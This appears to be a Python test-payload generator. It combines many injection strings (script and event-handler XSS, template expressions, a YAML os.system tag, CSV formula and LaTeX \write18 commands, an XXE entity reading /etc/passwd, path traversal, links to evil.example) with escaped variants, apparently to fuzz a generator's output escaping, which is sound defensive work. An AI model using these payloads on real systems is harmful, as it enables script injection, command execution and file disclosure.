"""Generates texts that try to break out of their field, by rules that cover each kind in every disguise."""

from __future__ import annotations

import itertools
from typing import Final

_DO: Final = "window.bad=1"
_SCRIPTS: Final = (
    f"<script>{_DO}</script>",
    f"</script><script>{_DO}</script>",
    f"<img src=x onerror={_DO}>",
    f"<svg/onload={_DO}>",
    f"<details open ontoggle={_DO}>",
    f"<input autofocus onfocus={_DO}>",
    f"<iframe srcdoc='<script>parent.{_DO}</script>'></iframe>",
    f"<math><mtext><img src=x onerror={_DO}></mtext></math>",
    f"<style>@import 'https://evil.example/{_DO}'</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>x</button></form>",
    "<object data=https://evil.example/x></object>",
    f'<a href="javascript:{_DO}">x</a>',
    "<template><b>x</b></template>",
)
_LEAVES: Final = (
    *(
        "",
        '">',
        "'>",
        "-->",
        "]]>",
        "*/",
        '"/>',
        "</title>",
        "</script>",
        "</p></article></body>",
        "</textarea>",
    ),
    "</pre>",
)
"""Ways to break out of the surrounding element or attribute."""
_JSON_BREAKERS: Final = (
    '","key":"../elsewhere","z":"',
    f'","links":[["PDF","https://evil.example/x.pdf"],["Code","javascript:{_DO}"]],"z":"',
    '"}]}',
    '\\","x":"',
    "\\u0022,\\u0022key\\u0022:\\u0022x",
    '{"@context":"https://evil.example"}',
    "[[1,2],{}]",
    "null",
    "__proto__",
    "constructor",
    '"__proto__":{"bad":1}',
)
_MARKDOWN: Final = (
    "*a* _b_ **c** __d__ `e` ~~f~~ ==g== ^^h^^",
    "# heading",
    "    indented code",
    "- item",
    "1. item",
    "> quote",
    "| a | b | --- | --- |",
    "[x](javascript:window.bad=1)",
    "![x](https://evil.example/x.png)",
    "[x]: https://evil.example/ 'y'",
    "<https://evil.example/>",
    "[^1] [^1]: note",
    "*[HTML]: expanded",
    "```python",
    "~~~",
    "***",
    "---",
    "+++",
    "a\\*b\\_c\\<d\\>",
    "[[wiki]]",
    "[TOC]",
)
_EXTENSIONS: Final = (
    '--8<-- "mkdocs.yml"',
    "--8<-- https://evil.example/x.md",
    "{: onclick=window.bad=1 }",
    "{ .class #id onmouseover=window.bad=1 }",
    "/// html | script",
    "!!! note",
    "??? danger",
    '=== "tab"',
    ":smile: :material-alert:",
    "++ctrl+alt+del++",
    "<div markdown='1'>",
    "{++added++}{--gone--}{~~a~>b~~}",
    "((annotation))",
    "(1)",
    "$x^2$",
    "$\\href{javascript:window.bad=1}{x}$",
    "$\\unknown{<b>}$",
    "\\(y\\) \\[z\\] $$w$$",
)
_TEMPLATES: Final = (
    "{{ 7 * 7 }}",
    "{% raw %}x{% endraw %}",
    "{# comment #}",
    "{{ config }}",
    "{% include 'x' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ ''.__class__.__mro__ }}",
    "{{constructor.constructor('window.bad=1')()}}",
    "%s %d %(x)s {0} {x}",
    "$(touch bad) `touch bad`",
    "%{x}",
)
_YAML: Final = (
    "---",
    "...",
    "key: value",
    "- x",
    "!!python/object/apply:os.system ['touch bad']",
    "&anchor *anchor",
    "<<: *x",
    "? x : y",
    "yes",
    "null",
    "~",
    "0x10",
    "1e3",
    "2024-01-01",
    "%YAML 1.2",
    "@x `y`",
    "x: |",
    "'",
    '"',
    "# comment",
    "[x, y]",
    "{a: b}",
)
_PATHS: Final = (
    "../../etc/passwd",
    "..\\..\\windows",
    "/etc/passwd",
    "C:\\x",
    "file:///etc/passwd",
    "%2e%2e%2f",
    "con",
    "index.html",
    ".htaccess",
    "a/b",
    "~/x",
    "//evil.example/x",
)
_SCHEMES: Final = (
    *(f"{scheme}{_DO}" for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:")),
    f"vbscript:{_DO}",
    f"blob:{_DO}",
    "data:text/html,<script>window.bad=1</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "https://evil.example/\"onmouseover='window.bad=1'",
    "https://evil.example/<b>",
    "https://user@evil.example:99999/",
    "http://[::1/",
    "feed:https://evil.example/",
    "mailto:x@evil.example",
)
_FORMATS: Final = (
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "＝1+1",
    "a; =1+1",
    "'=1",
    '"=1"',
    "a,b",
    "a;b",
    "a\tb",
    '""',
    "}, title = {other",
    "@misc{x, title={y}}",
    "\\input{x} \\write18{touch bad}",
    "% comment",
    "{ unbalanced",
    "} unbalanced",
    "and others",
    "A and B",
    "ER  - ",
    "TY  - JOUR",
    "<i>italics</i>",
    "<outline xmlUrl='x'/>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
)
_SIGNS: Final = tuple(
    f"a{sign}b"
    for sign in (
        *"\x00\x07\x08\x0b\x0c\x1b\x7f\x80\x85\x9f\xa0\xad\u061c\u200b\u200d\u200e\u200f\u2028\u2029",
        *"\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\u3000\ufe0f\ufeff\ufff9\ufffb\ufffd\ufffe\uffff",
        *("\ud800", "\udfff", "\U0001fffe", "\U000e0001", "\U0010ffff", "\u0301\u0302\u0303" * 20),
        *("\u05d0\u05d1", "\u0627\u0644", "\u4e2d\u6587", "\U0001f989", "\ufb01", "ſ", "İ", "ß", "\u2126"),
    )
)
_HUGE: Final = (
    "word " * 3_000,
    "x" * 15_000,
    "<" * 11_000,
    "{" * 11_000,
    '"' * 11_000,
    "&amp;" * 3_000,
    "$x$ " * 2_600,
    "<b>" * 4_000,
    "https://example.org/" + "a" * 3_000,
    "\u0301" * 11_000,
)
_BREAKERS: Final = (
    '"',
    "'",
    "<",
    ">",
    "&",
    '"},{"',
    _JSON_BREAKERS[0],
    _JSON_BREAKERS[1],
    _SCRIPTS[0],
    _SCRIPTS[2],
    '"onmouseover="window.bad=1',
    "{{ 7 * 7 }}",
    "\n# x",
)
"""Characters to escape once, twice and three times, by name and by number."""
_NAMES: Final = {
    "&": "&amp;",
    "<": "&lt;",
    ">": "&gt;",
    '"': "&quot;",
    "'": "&apos;",
    "{": "&lcub;",
    "\n": "&NewLine;",
}


def _named(text: str) -> str:
    return "".join(_NAMES.get(sign, sign) for sign in text)


def _decimal(text: str) -> str:
    return "".join(sign if sign.isalnum() or sign == " " else f"&#{ord(sign)};" for sign in text)


def _hexadecimal(text: str) -> str:
    """Without the semicolon, which browsers accept."""
    return "".join(sign if sign.isalnum() or sign == " " else f"&#x{ord(sign):X}" for sign in text)


def _percent(text: str) -> str:
    return "".join(sign if sign.isalnum() or sign == " " else f"%{ord(sign):02X}" for sign in text)


def _backslashed(text: str) -> str:
    return "".join(sign if sign.isalnum() or sign == " " else f"\\u{ord(sign):04x}" for sign in text)


def escaped_forms() -> tuple[str, ...]:
    """Returns every breaker escaped once, twice and three times; later rounds escape the `&` of earlier ones."""
    forms: list[str] = []
    for breaker, escape in itertools.product(
        _BREAKERS, (_named, _decimal, _hexadecimal, _percent, _backslashed)
    ):
        text = escape(breaker)
        for _ in range(3):
            forms.append(f"Dwayne {text}Rock{text} Johnson")
            text = text.replace("&", "&amp;").replace("%", "%25").replace("\\", "\\\\")
    return tuple(forms)


def _plain() -> tuple[str, ...]:
    left = tuple(leave + script for leave, script in itertools.product(_LEAVES, _SCRIPTS))
    shouted = tuple(script.upper().replace("WINDOW.BAD", "window.bad") for script in _SCRIPTS)
    return (
        *left,
        *shouted,
        *_JSON_BREAKERS,
        *_MARKDOWN,
        *_EXTENSIONS,
        *_TEMPLATES,
        *_YAML,
        *_PATHS,
        *_SCHEMES,
        *_FORMATS,
        *_SIGNS,
        *_HUGE,
    )


PAYLOADS: Final = tuple(dict.fromkeys((*_plain(), *escaped_forms())))
"""Each payload once, ordered by rule."""
